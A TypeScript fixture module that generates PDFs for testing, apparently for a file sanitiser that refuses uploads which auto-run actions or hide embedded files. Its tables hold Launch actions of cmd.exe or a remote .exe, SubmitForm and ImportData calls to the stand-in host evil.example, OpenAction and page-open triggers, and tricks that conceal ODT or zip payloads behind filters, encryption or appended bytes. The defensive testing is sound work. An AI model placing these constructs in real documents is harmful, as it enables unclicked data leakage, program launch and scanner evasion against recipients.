import { deflateSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import type { MadeFile } from './loading-office-files.ts';
import { catalogue, emptyPassword, objectStream, pages, pdfOf, streamOf } from './pdf-of-objects.ts';

const url = '(http://evil.example/a)';
const remote = `<</Type/Filespec/FS/URL/F${url}>>`;

/** Actions (ISO 32000-2, 12.6.4) that a person may click: they are refused where they run by themselves. */
const links = {
  URI: `<</S/URI/URI${url}>>`,
  'URI, its kind elsewhere': `<</S 9 0 R/URI${url}>>`,
  GoToR: '<</S/GoToR/F(other.pdf)/D[0/Fit]>>',
  Thread: '<</S/Thread/F(other.pdf)/D 0>>',
};
/** Those that are refused wherever they stand. */
const others = {
  'GoToR to another computer': `<</S/GoToR/F${remote}/D[0/Fit]>>`,
  'GoToR to a share': '<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)/D[0/Fit]>>',
  GoToE: `<</S/GoToE/F${remote}/T<</R/C/N(a)>>>>`,
  SubmitForm: `<</S/SubmitForm/F${url}/Flags 4>>`,
  'SubmitForm by a file': `<</S/SubmitForm/F${remote}>>`,
  ImportData: '<</S/ImportData/F(\\\\\\\\evil.example\\\\a.fdf)>>',
  Launch: '<</S/Launch/F(\\\\\\\\evil.example\\\\a.exe)>>',
  'Launch on Windows': '<</S/Launch/Win<</F(cmd.exe)/P(x)>>>>',
  Rendition: `<</S/Rendition/OP 0/R<</Type/Rendition/S/MR/C<</S/MCD/D${remote}>>>>>>`,
  Movie: `<</S/Movie/T(a)>>`,
  Sound: '<</S/Sound/Sound 9 0 R>>',
  JavaScript: '<</S/JavaScript/JS(x)>>',
  RichMediaExecute: '<</S/RichMediaExecute/CMD<</C(x)>>>>',
  'escaped name': `<</#53/#53ubmitForm/F${url}>>`,
};

/** Where an action runs by itself. */
const automatic: Readonly<Record<string, (action: string) => readonly (string | Buffer)[]>> = {
  'at the opening': (action) => [catalogue(`/OpenAction${action}`), pages],
  'at the opening, by reference': (action) => [catalogue('/OpenAction 3 0 R'), pages, action],
  'at the opening, in an object stream': (action) => [catalogue('/OpenAction 100 0 R'), pages, objectStream([action])],
  'after another action': (action) => [catalogue(`/OpenAction<</S/GoTo/D[2 0 R/Fit]/Next${action}>>`), pages],
  'after several': (action) => [
    catalogue('/OpenAction<</S/GoTo/D 7/Next[3 0 R 4 0 R]>>'),
    pages,
    '<</S/GoTo/D 7>>',
    action,
  ],
  'after one elsewhere': (action) => [
    ...[catalogue('/OpenAction 3 0 R'), pages, '<</S/GoTo/D 7/Next 4 0 R>>', '<</S/GoTo/D 7/Next 5 0 R>>', action],
  ],
  'when it is closed': (action) => [catalogue(`/AA<</WC${action}>>`), pages],
  'when a page is opened': (action) => [catalogue(), pages, `<</Type/Page/AA<</O${action}>>>>`],
  'when a page is opened, by reference': (action) => [
    catalogue(),
    pages,
    '<</Type/Page/AA 4 0 R>>',
    '<</O 5 0 R>>',
    action,
  ],
  'when a page is closed': (action) => [catalogue(), pages, `<</Type/Page/AA<</C${action}>>>>`],
  'when a remark is seen': (action) => [catalogue(), pages, `<</Type/Annot/Subtype/Link/AA<</PV${action}>>>>`],
  'when a field is met': (action) => [catalogue(), pages, `<</FT/Tx/T(a)/AA<</Fo${action}>>>>`],
  'when a page is shown in steps': (action) => [catalogue(), pages, `<</Type/NavNode/NA${action}/Dur 1>>`],
};
const clicked: Readonly<Record<string, (action: string) => readonly string[]>> = {
  'in a link': (action) => [catalogue(), pages, `<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A${action}>>`],
  'in a link, by reference': (action) => [catalogue(), pages, '<</Type/Annot/Subtype/Link/A 4 0 R>>', action],
  'in an outline': (action) => [catalogue(), pages, `<</Title(a)/Parent 9 0 R/A${action}>>`],
  'in a button': (action) => [catalogue(), pages, `<</FT/Btn/Subtype/Widget/T(a)/A${action}>>`],
};

/** Objects that show or load something of another file. */
const objects: Readonly<Record<string, string | Buffer>> = {
  'a picture elsewhere': streamOf(`/Type/XObject/Subtype/Image/F${remote}/FFilter/DCTDecode`, Buffer.alloc(0)),
  'the content of a page elsewhere': streamOf('/F(\\\\\\\\evil.example\\\\a)', Buffer.alloc(0)),
  'a font elsewhere': streamOf('/Length1 9/F 4 0 R', Buffer.alloc(0)),
  'a page of another file': streamOf(`/Type/XObject/Subtype/Form/Ref<</F${remote}/Page 0>>`, Buffer.alloc(0)),
  'a page of another file, by reference': streamOf('/Type/XObject/Subtype/Form/Ref 4 0 R', Buffer.alloc(0)),
  'a picture for the press': streamOf(
    `/Type/XObject/Subtype/Image/OPI<</2.0<</Type/OPI/F${remote}>>>>`,
    Buffer.alloc(0),
  ),
  'an older picture for the press': streamOf(`/Subtype/Form/OPI<</1.3<</Type/OPI/F${url}>>>>`, Buffer.alloc(0)),
  'a movie': `<</Type/Annot/Subtype/Movie/Movie<</F${remote}>>>>`,
  'a screen': `<</Type/Annot/Subtype/Screen/A<</S/Rendition/OP 0/R 4 0 R>>>>`,
  'a sound': '<</Type/Annot/Subtype/Sound/Sound 4 0 R>>',
  'rich media': '<</Type/Annot/Subtype/RichMedia>>',
};
const target = `<</Type/Filespec/FS/URL/F${url}>>`;

/** An OpenDocument text, as LibreOffice adds one to a PDF that it can edit again. */
const odt = Buffer.from(
  zipSync({
    mimetype: [strToU8('application/vnd.oasis.opendocument.text'), { level: 0 }],
    'content.xml': strToU8('<x/>'),
  }),
);
const base85 = (content: Buffer): Buffer => {
  const whole = Buffer.concat([content, Buffer.alloc((4 - (content.length % 4)) % 4)]);
  const groups = Array.from({ length: whole.length / 4 }, (_, at) => {
    let value = whole.readUInt32BE(at * 4);
    const letters: string[] = [];
    for (let letter = 0; letter < 5; letter += 1) {
      letters.unshift(String.fromCharCode(33 + (value % 85)));
      value = Math.floor(value / 85);
    }
    return letters.join('');
  });
  return Buffer.from(`${groups.join('')}~>`);
};
/** A byte in nine bits each, after the code that clears the table. */
const lzw = (content: Buffer): Buffer => {
  const bits = [256, ...content.subarray(0, 100)].map((one) => one.toString(2).padStart(9, '0')).join('');
  return Buffer.from(bits.match(/.{8}/g)!.map((byte) => Number.parseInt(byte, 2)));
};
const sealed = emptyPassword();

/** Files within a PDF, reached as no page, form, outline, font or metadata. */
export const hidingPdfs: readonly MadeFile[] = [
  [
    'an ODT in the trailer, as LibreOffice writes it',
    pdfOf([catalogue(), pages, streamOf('', odt)], '/AdditionalStreams[/application#2Fvnd 3 0 R]'),
  ],
  ['an ODT in the catalogue', pdfOf([catalogue('/AdditionalStreams[/a 3 0 R]'), pages, streamOf('', odt)])],
  ['an ODT to which nothing refers', pdfOf([catalogue(), pages, streamOf('', odt)])],
  ['an ODT as the content of a page', pdfOf([catalogue(), pages, '<</Type/Page/Contents 4 0 R>>', streamOf('', odt)])],
  ['an ODT, deflated', pdfOf([catalogue(), pages, streamOf('/Filter/FlateDecode', deflateSync(odt))])],
  [
    'an ODT, deflated twice',
    pdfOf([catalogue(), pages, streamOf('/Filter[/Fl/FlateDecode]', deflateSync(deflateSync(odt)))]),
  ],
  [
    'an ODT in hexadecimal',
    pdfOf([catalogue(), pages, streamOf('/Filter/ASCIIHexDecode', Buffer.from(`${odt.toString('hex')}>`))]),
  ],
  ['an ODT in base 85', pdfOf([catalogue(), pages, streamOf('/Filter[/ASCII85Decode]', base85(odt))])],
  ['an ODT in base 85, deflated', pdfOf([catalogue(), pages, streamOf('/Filter[/A85/Fl]', base85(deflateSync(odt)))])],
  ['an ODT by LZW', pdfOf([catalogue(), pages, streamOf('/Filter/LZWDecode', lzw(odt))])],
  [
    'an ODT with its filter elsewhere',
    pdfOf([catalogue(), pages, streamOf('/Filter 4 0 R', deflateSync(odt)), '[/FlateDecode]']),
  ],
  [
    'an ODT, encrypted with an empty password',
    pdfOf([catalogue(), pages, sealed.dictionary, streamOf('', sealed.seal(odt))], '/Encrypt 3 0 R/ID[<00><00>]'),
  ],
  ['an older document', pdfOf([catalogue(), pages, streamOf('', Buffer.from('d0cf11e0a1b11ae10000', 'hex'))])],
  ['another PDF', pdfOf([catalogue(), pages, streamOf('', Buffer.from('%PDF-1.4\n'))])],
  [
    'bytes of one\u2019s own in the trailer',
    pdfOf([catalogue(), pages, streamOf('', Buffer.from('anything'))], '/Mine[3 0 R]'),
  ],
  [
    'bytes of one\u2019s own in the catalogue',
    pdfOf([catalogue('/Mine<</A 3 0 R>>'), pages, streamOf('', Buffer.from('anything'))]),
  ],
  [
    'a zip between its objects',
    pdfOf([catalogue(), pages, Buffer.concat([Buffer.from('<<>>endobj '), odt]), '<</Type/Page>>']),
  ],
  [
    'a zip behind other bytes of a stream',
    pdfOf([catalogue(), pages, streamOf('', Buffer.concat([Buffer.from('BT ET '), odt])), '<</Type/Page>>']),
  ],
  ['a zip behind its end', Buffer.concat([pdfOf([catalogue(), pages]), odt])],
];

function* loading(): Generator<MadeFile> {
  for (const [kind, action] of Object.entries({ ...links, ...others }))
    for (const [where, objectsOf] of Object.entries(automatic))
      yield [`PDF: ${kind} ${where}`, pdfOf(objectsOf(action))];
  for (const [kind, action] of Object.entries(others))
    for (const [where, objectsOf] of Object.entries(clicked)) yield [`PDF: ${kind} ${where}`, pdfOf(objectsOf(action))];
  for (const [what, object] of Object.entries(objects))
    yield [`PDF: ${what}`, pdfOf([catalogue(), pages, object, target])];
  const inside = objectStream([links.URI], { seal: sealed.seal });
  const trailer = '/Encrypt 3 0 R/ID[<00><00>]';
  yield [
    'PDF: a link at the opening, encrypted',
    pdfOf([catalogue('/OpenAction 100 0 R'), pages, sealed.dictionary, inside], trailer),
  ];
  const first = pdfOf([catalogue(`/OpenAction${links.URI}`), pages]);
  yield [
    'PDF: a link at the opening of an earlier revision',
    Buffer.concat([first, pdfOf([catalogue(), pages]).subarray(9)]),
  ];
}

/** PDFs of every action and object of the standard that asks another computer, or starts a program, without a click. */
export const loadingPdfs = (): readonly MadeFile[] => [...loading()];

/** Those actions where a person clicks them. */
export const linkingPdfs = (): readonly MadeFile[] =>
  Object.entries(links).flatMap(([kind, action]) =>
    Object.entries(clicked).map(([where, objectsOf]): MadeFile => [`PDF: ${kind} ${where}`, pdfOf(objectsOf(action))]),
  );
